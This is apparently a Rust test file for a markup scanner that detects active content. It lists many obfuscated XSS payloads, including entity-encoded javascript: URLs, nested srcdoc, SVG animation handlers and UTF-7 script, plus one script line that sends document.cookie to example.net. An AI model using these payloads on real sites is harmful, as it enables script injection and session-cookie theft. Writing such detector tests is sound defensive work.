//! Pages that act however they hide it, and pages as people write them.
#![allow(clippy::unwrap_used, clippy::panic, reason = "tests say what went wrong by panicking")]

use std::sync::Arc;

use bytes::Bytes;

use super::{Markup, active};
use crate::{Limits, Outcome, Verdict, scan};

#[test]
fn what_acts_is_seen_however_it_is_written() {
    let many = format!("<img {} onerror=alert(1)>", "a ".repeat(300));
    for text in [
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#106avascript&colon;alert(1)\">x</a>",
        "<a href='&#x000006A;avascript:alert(1)'>x</a>",
        "<a href='java&Tab;script&#58;alert(1)'>x</a>",
        "[x](<javascript:alert(1)>)",
        "[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<iframe srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe srcdoc='<iframe srcdoc=&quot;&lt;img onerror=alert(1)&gt;&quot;>'></iframe>",
        "<base href=\"//example.net/\">",
        "<base href='&#104;ttps://example.net/'>",
        "<meta http-equiv=refresh content=\"0; URL=HTTP://example.net/\">",
        "<meta http-equiv=refresh content=\"0;url='//example.net'\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD4=\">",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
        "<svg><use xlink:href='data:image/svg+xml,x'/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values='#;javascript:alert(1)'/></a></svg>",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<svg><set onend=alert(1)></svg>",
        "<form><button formaction=javascript:alert(1)>x</button></form>",
        "<form><button formaction=https://example.net/>x</button></form>",
        "<object data=data:text/html,x></object>",
        "<object data=data:image/svg+xml,x></object>",
        "<embed src=//example.net/x.swf>",
        "<img src=x onerror=\"this.style.display='none';alert(1)\">",
        "<img src=x onerror=\"this.src='javascript:alert(1)'\">",
        "<img src=x onerror=\"this.parentNode.innerHTML='<b>'\">",
        "<img src=x onerror=\"this.onerror=alert\">",
        "<img src=x onerror=this.ownerDocument.defaultView.remove(alert(1))>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta charset=utf-7>+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
        &many,
    ] {
        assert!(!active(text, Markup::Still).is_empty(), "{text}");
    }
    let page = "<script>var a = '</b>'; fetch('https://example.net/?' + document.cookie)</script>";
    assert!(!active(page, Markup::Page).is_empty());
}

#[test]
fn ordinary_pages_are_silent() {
    for text in [
        "<img src=a.png onerror=\"this.style.display='none'\">",
        "<img src=a.png onerror=\"this.onerror=null; this.src='b.png'\">",
        "<img src=a.png onerror=\"this.style.display='none';this.nextElementSibling.style.display='block'\">",
        "<img src=a.png onerror=\"this.remove()\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<svg><use href=\"#icon\"/></svg>",
        "<svg><animate attributeName=x values='0;1;2' dur=1s/></svg>",
        "<a href=\"https://example.net/?a=1&amp;b=2\">x</a> and a < b, c++ADw",
        "<meta http-equiv=refresh content=\"0; url=docs/index.html\">",
        "<object data=figure.svg type=image/svg+xml></object>",
        "<iframe src=https://www.youtube.com/embed/x></iframe>",
        "[1]: https://example.net/paper\n<https://example.net>",
        "<form action=/search><button formaction=/other>x</button></form>",
    ] {
        assert_eq!(active(text, Markup::Still), [], "{text}");
    }
}

#[test]
fn tags_that_never_end_cost_what_they_are_long() {
    let n = 100_000;
    for text in [
        "<a ".repeat(n),
        "<a b=\"".repeat(n) + "'>",
        "<a b='\" ".repeat(n) + ">",
        "<script>".repeat(n),
        "<!-- ".repeat(n),
        "<iframe srcdoc='".repeat(n),
        format!("<iframe srcdoc=\"{}\">", "&lt;iframe srcdoc=&quot;".repeat(n / 10)),
        "+A".repeat(n) + "+ADw-",
    ] {
        active(&text, Markup::Page);
    }
}

#[test]
fn wide_pages_are_pages() {
    let text = "<img src=x onerror=alert(1)>";
    for units in [
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect::<Vec<u8>>(),
        [0xfe, 0xff].into_iter().chain(text.encode_utf16().flat_map(u16::to_be_bytes)).collect(),
    ] {
        let Outcome::Judged(report) = scan("a.html", Arc::new(Bytes::from(units)), &Limits::default(), None) else {
            panic!("all is here")
        };
        assert_eq!(report.verdict, Verdict::Suspicious, "{:?}", report.findings);
    }
}
